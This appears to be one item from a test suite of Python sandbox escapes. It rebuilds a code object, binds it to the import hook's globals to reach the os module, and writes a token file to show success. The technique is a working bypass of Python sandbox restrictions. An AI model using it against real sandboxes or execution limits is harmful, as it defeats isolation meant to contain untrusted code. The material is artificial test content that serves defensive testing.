# id: intro-code-object-construct
# category: introspection
# description: construct a new code object (code.replace) and bind it to the import hook’s globals with FunctionType: the hook’s own powers, our code
# source: types.CodeType / code.replace (Python 3.8+) and types.FunctionType(code, globals); the talk: "construct arbitrary code objects"
# detect: token (the token lands in OUT)
b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
hook = b['__import__']
host_globals = getattr(hook, '__globals__', None) or {'ORIGINAL_IMPORT': hook}


def template(name):
    return ORIGINAL_IMPORT(name)


code = template.__code__.replace(co_name='innocent')
function_type = type(template)
os_module = function_type(code, host_globals)('os')
fd = os_module.open(OUT, os_module.O_WRONLY | os_module.O_CREAT | os_module.O_TRUNC, 0o644)
os_module.write(fd, TOKEN.encode())
os_module.close(fd)
